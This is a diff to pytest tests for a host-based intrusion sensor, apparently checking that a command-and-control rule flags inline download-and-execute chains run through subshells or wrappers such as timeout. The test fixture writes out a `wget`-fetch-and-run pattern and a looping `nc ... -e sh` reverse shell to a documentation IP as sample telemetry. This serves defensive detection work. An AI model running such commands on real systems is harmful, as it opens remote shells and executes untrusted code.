@@ -11,7 +11,7 @@ from typing import Any
 
 import pytest
 
-from sensor.detect.view import WindowView
+from sensor.detect.view import FORKED, WindowView
 from sensor.telemetry.stage import (
     FD_EXEC,
     MEMFD,
@@ -440,13 +440,14 @@ def _inline_chain(
     sh_gppid: int = 0,
     sh_parent: str = "",
     fetch_gppid: int = 0,
+    fetch_parent: str = "",
 ) -> WindowView:
     """`sh -c "$(wget -qO- URL)"`: the outer shell (pid 7) runs wget in a
     child that connects, then sh -c with what it printed; then a channel."""
     sh = exec_(DROP, DET, exe, [*argv, "while :; do nc 203.0.113.66 4444 -e sh; done"], pid=21)
     sh.process.ppid, sh.process.gppid, sh.process.parent = sh_ppid, sh_gppid, sh_parent
     fetch = connect(DROP, DET - dt, "198.51.100.5", 80, pid=fetch_pid, executable="/usr/bin/wget")
-    fetch.process.ppid, fetch.process.gppid = fetch_ppid, fetch_gppid
+    fetch.process.ppid, fetch.process.gppid, fetch.process.parent = fetch_ppid, fetch_gppid, fetch_parent
     later = connect(DROP, DET + 2, "203.0.113.66", 4444, pid=22, executable="/usr/bin/nc")
     return window(DET + 5, seconds=10, execs=[sh], connects=[fetch, later])
 
@@ -491,36 +492,57 @@ def test_an_inline_script_after_its_parents_own_connect_is_no_stage(tmp_path: Pa
 
 
 def test_an_inline_script_fed_through_a_subshell_is_a_stage(tmp_path: Path) -> None:
-    """Left undone: `sh -c "$(wget -qO- URL | cat)"` or `$(timeout 5 wget
-    ...)`: the fetch runs in a child of a subshell (pid 8) of the outer
-    shell (pid 7), which is in no exec table; its grandparent is."""
-    assert rules_of(detector(config(tmp_path)).run(_inline_chain(7, 8, fetch_gppid=7))) == ["SL-C2-001"]
+    """Left undone: `sh -c "$(wget -qO- URL | cat)"`: the fetch runs in a
+    child of a subshell (pid 8, a fork of the outer shell, pid 7, that
+    exec'd nothing); `$(timeout 5 wget ...)` with a wrapper there."""
+    for between in (FORKED, "timeout"):
+        v = _inline_chain(7, 8, fetch_gppid=7, fetch_parent=between)
+        assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"], between
 
 
 def test_an_inline_script_started_through_a_wrapper_is_a_stage(tmp_path: Path) -> None:
-    """Left undone: `timeout 9 sh -c "$(wget -qO- URL)"`: the interpreter's
-    parent is timeout (pid 9), whose parent (pid 7) ran the fetch in a
-    child (directly, or through a subshell)."""
-    v = _inline_chain(9, 7, sh_gppid=7, sh_parent="timeout")
-    assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"]
-    v = _inline_chain(9, 8, sh_gppid=7, sh_parent="timeout", fetch_gppid=7)
-    assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"]
+    """Left undone: `timeout 9 sh -c "$(wget -qO- URL)"` (coreutils: it
+    forks) and `echo | xargs sh -c "$s"` (busybox ash runs the xargs applet
+    in a fork, measured): the interpreter's parent (pid 9) stands for its
+    parent (pid 7), which ran the fetch in a child, or in a subshell's."""
+    for between in ("timeout", FORKED):
+        v = _inline_chain(9, 7, sh_gppid=7, sh_parent=between)
+        assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"], between
+        v = _inline_chain(9, 8, sh_gppid=7, sh_parent=between, fetch_gppid=7, fetch_parent=FORKED)
+        assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"], between
 
 
 @pytest.mark.parametrize(
-    "sh_ppid,fetch_ppid,fetch_pid,sh_gppid,sh_parent,fetch_gppid",
+    "sh_ppid,fetch_ppid,fetch_pid,sh_gppid,sh_parent,fetch_gppid,fetch_parent",
     [
-        (9, 7, 20, 7, "gunicorn", 0),  # the grandparent's other children, no wrapper between
-        (9, 1, 7, 7, "timeout", 0),  # the wrapper's parent's own connect
-        (9, 7, 9, 7, "timeout", 0),  # the wrapper's own (it fetches nothing)
-        (7, 8, 20, 0, "", 99),  # a grandchild of an unrelated process
-        (7, 8, 20, 0, "", 0),  # its parent's parent unknown
+        (9, 7, 20, 7, "gunicorn", 0, ""),  # the grandparent's other children, no wrapper between
+        (9, 1, 7, 7, "timeout", 0, ""),  # the wrapper's parent's own connect
+        (9, 7, 9, 7, "timeout", 0, ""),  # the wrapper's own (it fetches nothing)
+        (7, 8, 20, 0, "", 99, FORKED),  # a grandchild of an unrelated process
+        (7, 8, 20, 0, "", 0, FORKED),  # its parent's parent unknown
+        (7, 8, 20, 0, "", 7, "python3"),  # a grandchild through another program (a worker's helper)
+        (7, 8, 20, 0, "", 7, ""),  # ... or through one that predates the sensor
     ],
 )
 def test_an_inline_script_through_a_subshell_or_wrapper_needs_the_relation(
-    tmp_path: Path, sh_ppid: int, fetch_ppid: int, fetch_pid: int, sh_gppid: int, sh_parent: str, fetch_gppid: int
+    tmp_path: Path,
+    sh_ppid: int,
+    fetch_ppid: int,
+    fetch_pid: int,
+    sh_gppid: int,
+    sh_parent: str,
+    fetch_gppid: int,
+    fetch_parent: str,
 ) -> None:
-    v = _inline_chain(sh_ppid, fetch_ppid, fetch_pid, sh_gppid=sh_gppid, sh_parent=sh_parent, fetch_gppid=fetch_gppid)
+    v = _inline_chain(
+        sh_ppid,
+        fetch_ppid,
+        fetch_pid,
+        sh_gppid=sh_gppid,
+        sh_parent=sh_parent,
+        fetch_gppid=fetch_gppid,
+        fetch_parent=fetch_parent,
+    )
     assert detector(config(tmp_path)).run(v) == []
 
 
